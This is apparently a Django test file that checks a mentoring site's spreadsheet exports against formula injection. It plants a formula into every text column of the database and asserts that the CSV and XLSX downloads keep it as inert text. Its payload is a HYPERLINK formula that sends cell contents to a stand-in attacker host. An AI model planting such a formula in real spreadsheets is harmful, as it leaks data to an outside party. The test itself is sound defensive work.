"""Exports are inert (issue 20): every spreadsheet a role of the permission table may download,
with a formula planted in every text field of the database, holds no formula — a text that
starts with «=», «+», «-», «@», a tab or a carriage return is a text cell (XLSX) or starts with
«'» (CSV), while real numbers and dates stay typed."""

import csv
import io
import zipfile

from django.apps import apps
from django.db import models
from django.db.models import Value
from django.db.models.functions import Concat, Left
from django.urls import reverse
from openpyxl import load_workbook

from mentoring_site.lib.spreadsheets import FORMULA_STARTS, is_formula_like
from tests import test_permissions as table

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A2&B2,"Подробнее")'
APPS = ("registry", "programs", "roadmap", "reports")
SPREADSHEETS = ("spreadsheetml", "text/csv")
# Columns that must stay what they are for the pages and exports to work at all.
DOWNLOADS = ("export", "download", "template", "xlsx", "csv")
KEEP = {"username", "password", "email", "slug", "public_slug", "token", "status", "kind", "code"}
# Columns a CheckConstraint ties to others (the head's founder order: issuer, number and date
# together): planted only where they are filled already.
TIED = {
    ("registry.roleassignment", "founder_issuer"),
    ("registry.roleassignment", "founder_order_number"),
}


def plant_formulas() -> int:
    """Every free-text column of every row becomes the payload (with the row's id, so unique
    columns stay unique). Returns how many columns were planted."""
    planted = 0
    for model in apps.get_models():
        if model._meta.app_label not in APPS or model._meta.proxy:
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, models.CharField | models.TextField) or field.choices:
                continue
            if field.name in KEEP or isinstance(field, models.EmailField | models.SlugField):
                continue
            value = Concat(Value(PAYLOAD), models.functions.Cast("pk", models.CharField()))
            if field.max_length:
                value = Left(value, field.max_length)
            rows = model._base_manager.all()
            if (model._meta.label_lower, field.name) in TIED:
                rows = rows.exclude(**{field.name: ""})
            rows.update(**{field.name: value})
            planted += 1
    return planted


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [cell.coordinate for cell in row if cell.data_type == "f"]
    # Nothing a formula leaves in the XML either (openpyxl reads <f> as data_type "f").
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                found.append(name)
    return found


def dangerous_csv_fields(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text), delimiter=";")
    return [value for row in rows for value in row if value.startswith(FORMULA_STARTS)]


def test_every_download_of_the_permission_table_is_inert(world, client):
    objects = table._objects(world)
    group_b = table._group_b(world)
    # Downloads are named so (export, download, template); the pages around them are not.
    downloads = {
        name: (row, row.kwargs(world, objects))
        for name, row in table.TABLE.items()
        if row.method == "get" and any(word in name for word in DOWNLOADS)
    }
    assert plant_formulas() > 50  # after the rows found their objects by name
    checked = []
    for url_name, (row, kwargs) in downloads.items():
        url = reverse(url_name, kwargs=kwargs)
        for role in table.ROLES:
            if table.expected_for(row.expected, role, kwargs) != 200:
                continue
            user = group_b[role] if role in group_b else world.user(role)
            if user is None:
                client.logout()
            else:
                client.force_login(user)
            response = table.finished(client.get(url))
            content_type = response.get("Content-Type", "")
            if response.status_code != 200 or not content_type.startswith(
                tuple(f"application/vnd.openxmlformats-officedocument.{s}" for s in SPREADSHEETS)
                + ("text/csv",)
            ):
                break  # one role is enough to learn that this URL is no spreadsheet
            content = (
                b"".join(response.streaming_content) if response.streaming else response.content
            )
            if content_type.startswith("text/csv"):
                assert dangerous_csv_fields(content) == [], f"{url_name} as {role}"
            else:
                assert formula_cells(content) == [], f"{url_name} as {role}"
            checked.append((url_name, role))
    # The statistics also come as CSV (the table's row asks for the XLSX).
    client.force_login(world.curator)
    content = client.get(reverse("reports:statistics-export", kwargs={"fmt": "csv"})).content
    assert "'=HYPERLINK" in content.decode("utf-8-sig")  # the planted names, as inert text
    assert dangerous_csv_fields(content) == []
    names = {name for name, _ in checked}
    assert {"registry:bank-export", "registry:import-template", "reports:growth-export"} <= names
    assert len(checked) >= 8


def test_formula_like_texts_are_the_ones_excel_would_run():
    for text in ("=1+1", "+7 921", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert is_formula_like(text)
    for text in ("Иванова", "1+1", " =1", "", "ok="):
        assert not is_formula_like(text)
